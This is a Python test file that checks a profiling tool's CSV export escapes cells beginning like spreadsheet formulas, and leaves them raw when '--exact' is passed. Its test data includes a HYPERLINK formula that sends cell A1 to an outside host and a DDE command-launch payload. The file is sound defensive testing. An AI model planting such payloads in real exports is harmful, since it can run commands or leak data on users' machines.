"""CSV: texts of strangers calculate nothing in a spreadsheet, numbers and all else stay."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path

import polars as pl
import pytest

from sightline.core.model.columns import Column
from sightline.views import tables
from sightline.views.csv_text import encode_csv
from support import traces as t
from support.command import sightline

LINK = '=HYPERLINK("http://example.org?"&A1,"open")'
FORMULAS = [LINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1"]
PLAIN = ["gemm<float>", "a=b", "-3", "+4.5e-7", "", " =1", "'=1", "1-2"]


def read_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(), newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_texts_that_begin_as_a_formula_are_texts(text: str) -> None:
    frame = pl.DataFrame({"name": [text], "=head": [1], "list": [[text, "b"]]})
    assert read_cells(encode_csv(frame)) == [
        ["name", "'=head", "list"],
        [f"'{text}", "1", f"'{text} b"],
    ]
    exact = encode_csv(frame, exact=True)
    assert read_cells(exact) == [["name", "=head", "list"], [text, "1", f"{text} b"]]


def test_other_texts_and_numbers_stay() -> None:
    numbers = [-3, 4, None]
    frame = pl.DataFrame(
        {"name": PLAIN[:3], "more": PLAIN[3:6], "n": numbers, "f": [-0.5, None, 2.0]},
        schema_overrides={"n": pl.Int64},
    )
    assert encode_csv(frame) == encode_csv(frame, exact=True)


@pytest.mark.parametrize("form", ["csv", "parquet", "json", "table"])
@pytest.mark.parametrize(
    "values",
    [
        [[1, 2], [1], None],
        [[["a"], ["b", "c"]], []],
        [{"a": 1, "b": [1, 2]}, None],
        [[{"x": 1}], [{"x": 2}, {"x": 3}]],
        [b"\xff=1", b""],
        [Decimal("1.50"), None],
        [{1, 2}, "x"],  # an object of Python
    ],
)
def test_every_kind_of_column_has_a_form(form: str, values: list[object]) -> None:
    dtype = pl.Object if isinstance(values[0], set) else None
    frame = pl.DataFrame({"a": pl.Series(values, dtype=dtype)})
    columns = tuple(Column(n, d, "of the query", is_id=True) for n, d in frame.schema.items())
    assert tables.write(frame, columns, form, 0)


@pytest.fixture
def trace(tmp_path: Path) -> Path:
    return t.write(tmp_path, [t.step(1, 0, 90), t.kernel(LINK, 30, 5)], "trace.json")


@pytest.mark.parametrize(
    "words",
    [
        ("stats", "kernels", "{}", "--format", "csv"),
        ("sql", "{}", "SELECT name FROM device_ops", "--format", "csv"),
    ],
)
def test_commands_neutralize_and_are_exact_on_request(trace: Path, words: tuple[str, ...]) -> None:
    asked = [word.format(trace) for word in words]
    cells = [cell for row in read_cells(sightline(*asked).out.encode()) for cell in row]
    assert f"'{LINK}" in cells
    cells = [cell for row in read_cells(sightline(*asked, "--exact").out.encode()) for cell in row]
    assert LINK in cells


def test_export_neutralizes_and_is_exact_on_request(tmp_path: Path, trace: Path) -> None:
    assert sightline("export", trace, "--to", "csv", "-o", tmp_path / "a").code == 0
    assert sightline("export", trace, "--to", "csv", "-o", tmp_path / "b", "--exact").code == 0
    names = [pl.read_csv(tmp_path / f / "device_ops.csv")["name"].to_list() for f in "ab"]
    assert names == [[f"'{LINK}"], [LINK]]
    assert sightline("export", trace, "--to", "chrome", "--exact").code == 2
